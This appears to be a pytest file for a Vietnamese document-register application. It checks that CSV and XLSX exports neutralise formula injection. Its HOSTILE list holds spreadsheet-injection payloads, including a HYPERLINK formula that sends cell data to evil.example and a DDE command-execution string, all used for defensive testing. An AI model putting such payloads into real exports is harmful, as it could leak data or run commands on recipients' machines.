"""Exports that cannot carry a formula: CSV cells neutralised, XLSX cells written as text
(OWASP CSV injection), on the registers' exports through the API."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.conftest import Api
from workflow.uploads import append_text_row, csv_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_leading_text_is_neutralised(value: str) -> None:
    assert csv_cell(value) == "'" + value
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    append_text_row(sheet, [value, 12, -0.5, None])
    text, number, negative, empty = sheet[1]
    assert (text.value, text.data_type) == (value, "s")
    assert (number.value, negative.value, empty.value) == (12, -0.5, None)


def test_ordinary_cells_are_untouched() -> None:
    assert csv_cell("Về việc tổ chức hội nghị") == "Về việc tổ chức hội nghị"
    assert csv_cell("125-CV/ĐUK") == "125-CV/ĐUK"
    assert csv_cell(-3) == -3 and csv_cell(None) is None


@pytest.mark.usefixtures("clock")
def test_register_exports_hold_a_hostile_subject_as_text(api: Api) -> None:
    received = api.post(
        "vanthu",
        "/incoming/paper",
        json={
            "sender": "Tỉnh ủy",
            "original_symbol": "120-CV/TU",
            "subject": HOSTILE[0],
            "doc_type": "CV",
        },
    )
    assert received.status_code == 201, received.get_json()

    text = api.get("vanthu", "/registers/incoming?format=csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE[0] in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells

    workbook = api.get("vanthu", "/registers/incoming?format=xlsx")
    assert workbook.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.data)).active
    assert sheet is not None
    found = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE[0]]
    assert len(found) == 1 and found[0].data_type == "s"
    # Nothing in the file is a formula (openpyxl reads a formula back as data_type "f").
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
